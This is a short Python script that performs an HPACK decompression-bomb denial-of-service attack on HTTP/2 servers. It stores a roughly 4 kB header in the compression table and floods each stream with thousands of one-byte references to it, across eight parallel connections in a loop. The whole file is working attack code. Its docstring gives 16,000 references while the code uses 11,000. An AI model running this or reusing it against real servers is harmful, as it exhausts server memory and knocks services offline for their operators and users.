"""Headers of 16 kB that are 60 MB unpacked: one field of 4 kB in the table, named 16,000 times (RFC 7541, 7.3)."""

from wire.http2 import END_HEADERS, END_STREAM, HEADERS, fields, frame, http2, integer, string


async def attack(target):
    # Into the table, as the newest entry: number 62.
    store = b"\x40" + string(b"x") + string(b"y" * 3900)

    async def lane(number):
        async with http2(target, target.source(number)) as it:
            stream = 1
            while it and target.goes_on():
                block = fields(path=b"/small") + store + integer(62, 7, 0x80) * 11_000
                await it.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
                stream += 2

    await target.lanes(8, lane)
